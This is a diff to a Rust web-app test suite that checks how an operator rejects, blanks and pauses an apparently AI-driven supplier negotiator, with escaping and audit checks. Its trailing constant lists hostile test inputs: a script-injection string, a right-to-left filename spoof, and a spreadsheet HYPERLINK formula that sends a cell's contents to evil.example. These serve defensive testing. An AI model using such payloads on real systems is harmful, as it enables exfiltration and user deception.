@@ -375,6 +375,104 @@ async fn a_campaign_is_made_and_changed_by_a_form() {
     assert_eq!(commands, ["page sign-in", "campaigns new", "campaigns edit", "campaigns open", "campaigns edit"]);
 }
 
+#[tokio::test(flavor = "multi_thread")]
+async fn a_person_answers_the_negotiator() {
+    let server = gathering().await;
+    let mut ana = signed_in(&server, "ana", 1).await;
+    let until = day(&server, 0);
+    let bid = with(&BID, &[("valid_until", &until), ("sure", "yes")]);
+    page(&act(&mut ana, &format!("{HERE}/bid"), &bid).await, 200, "Bid 1 of");
+    let draft = format!("bid = 1\n{}", server.run(&["campaigns", "sample", "--offer"])).replace('\'', "''");
+    for n in 1..=2 {
+        server.execute(&format!(
+            "INSERT INTO campaign_offer_drafts (campaign_id, at, client, seat, exception, offer)
+             VALUES (1, {n}, 'Claude', 'table', 'why <b>not</b>', '{draft}')"
+        ));
+    }
+    let shown = page(&ana.get(HERE).await, 200, "Reject draft 2…");
+    assert!(told(&shown).contains("why <b>not</b>") && !shown.contains("<b>not"), "{shown}");
+
+    // A draft is answered once, with a reason.
+    let reject = format!("{HERE}/draft");
+    page(&act(&mut ana, &reject, &[("number", "2")]).await, 200, "Reject draft 2 of internet-sample?");
+    let unsaid = [("number", "2"), ("sure", "yes"), ("reason", " ")];
+    page(&act(&mut ana, &reject, &unsaid).await, 400, "Why?: write the reason");
+    assert_eq!(server.number("SELECT count(*) FROM campaign_draft_answers"), 0);
+    let sure = [("number", "2"), ("sure", "yes"), ("reason", "too <i>dear</i>")];
+    page(&act(&mut ana, &reject, &sure).await, 200, "Draft 2 of internet-sample is rejected.");
+    page(&act(&mut ana, &reject, &sure).await, 400, "Draft 2 was rejected at");
+    page(&act(&mut ana, &reject, &[("number", "3"), sure[1], sure[2]]).await, 400, "no such draft");
+    let shown = page(&ana.get(HERE).await, 200, "Publish draft 1…");
+    assert!(!shown.contains("Publish draft 2…") && !shown.contains("Reject draft 2…"), "{shown}");
+    assert!(told(&shown).contains("by ana (page): \"too <i>dear</i>\""), "{shown}");
+    page(&act(&mut ana, HERE, &[("step", "offer"), ("draft", "2")]).await, 400, "Draft 2 was rejected");
+
+    // A round by hand, blanked when it should not have been there.
+    let round = format!("{HERE}/round");
+    page(&ana.get(&round).await, 200, "Record a round");
+    let wrong = [("supplier", ""), ("asked", "a\u{202e}b"), ("answered", "We can do <b>$48</b>.")];
+    let refused = told(&page(&act(&mut ana, &round, &wrong).await, 400, "Nothing was saved"));
+    holds(
+        &refused,
+        &[
+            "Supplier: write a text of 1 to 4000 characters", "What they were asked: write a text of 1 to 4000",
+            "We can do <b>$48</b>.", "aU+202Eb",
+        ],
+    );
+    let good =
+        [("supplier", "Example Fiber"), ("asked", "$45?\r\nFor 12 months."), ("answered", "We can do <b>$48</b>.")];
+    page(&act(&mut ana, &round, &good).await, 200, "Round 1 of internet-sample is recorded.");
+    let shown = page(&ana.get(HERE).await, 200, "$45?\nFor 12 months.");
+    assert!(!shown.contains("<b>$48") && told(&shown).contains("We can do <b>$48</b>."), "{shown}");
+    let redact = format!("{HERE}/redact");
+    page(&act(&mut ana, &redact, &[("number", "1")]).await, 200, "Blank round 1 of internet-sample?");
+    let sure = [("number", "1"), ("sure", "yes"), ("reason", "a name")];
+    page(&act(&mut ana, &redact, &sure).await, 200, "Round 1 of internet-sample is blanked.");
+    page(&act(&mut ana, &redact, &sure).await, 400, "was blanked at");
+    let shown = page(&ana.get(HERE).await, 200, "by ana (page): a name");
+    assert!(!shown.contains("$45?"), "{shown}");
+
+    // Words for it, and a pause here and of all.
+    let say = format!("{HERE}/say");
+    let long = "w".repeat(1001);
+    let refused = page(
+        &act(&mut ana, &say, &[("message", &long)]).await,
+        400,
+        "Your words: write a text of 1 to 1000 characters",
+    );
+    assert!(refused.contains(&long), "{refused}");
+    leads(&act(&mut ana, &say, &[("message", "Ask for <b>no</b> fee.")]).await, &format!("{HERE}#negotiator"));
+    assert!(told(&page(&ana.get(HERE).await, 200, "no")).contains("Ask for <b>no</b> fee."));
+    for (at, back) in [(format!("{HERE}/negotiator"), HERE), ("/operator/negotiator".to_owned(), "/operator/campaigns")]
+    {
+        page(&act(&mut ana, &at, &[("act", "pause")]).await, 200, "Pause the negotiator of");
+        let sure = [("act", "pause"), ("sure", "yes"), ("reason", "it <i>repeats</i> itself")];
+        leads(&act(&mut ana, &at, &sure).await, back);
+        let shown = page(&ana.get(back).await, 200, "It is paused");
+        assert!(told(&shown).contains("by ana (page): it <i>repeats</i> itself"), "{shown}");
+        for _ in 0..2 {
+            leads(&act(&mut ana, &at, &[("act", "resume")]).await, back);
+        }
+        assert!(!page(&ana.get(back).await, 200, "</html>").contains("It is paused"));
+    }
+    let acts: Vec<_> = audit(&server).into_iter().filter(|(who, ..)| who == "ana (page)").skip(2).collect();
+    let acts: Vec<_> = acts.iter().map(|(_, command, about)| (command.as_str(), about.as_str())).collect();
+    let expected = [
+        ("campaigns drafts reject", "internet-sample, draft 2"),
+        ("campaigns round", CAMPAIGN),
+        ("campaigns rounds redact", "internet-sample, round 1"),
+        ("campaigns say", CAMPAIGN),
+        ("negotiator pause", CAMPAIGN),
+        ("negotiator resume", CAMPAIGN),
+        ("negotiator pause", "all campaigns"),
+        ("negotiator resume", "all campaigns"),
+    ];
+    assert_eq!(acts, expected);
+    let sure = [("step", "offer"), ("draft", "1"), ("sure", "yes")];
+    page(&act(&mut ana, HERE, &sure).await, 200, "is published");
+    page(&ana.get(HERE).await, 200, "It was published at");
+}
+
 /// Markup, what turns a line around, a formula, and as long as it may be.
 const HOSTILE: [&str; 4] = [
     "\"><script>alert(1)</script>", "paid\u{202e}gpj.exe", "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")",
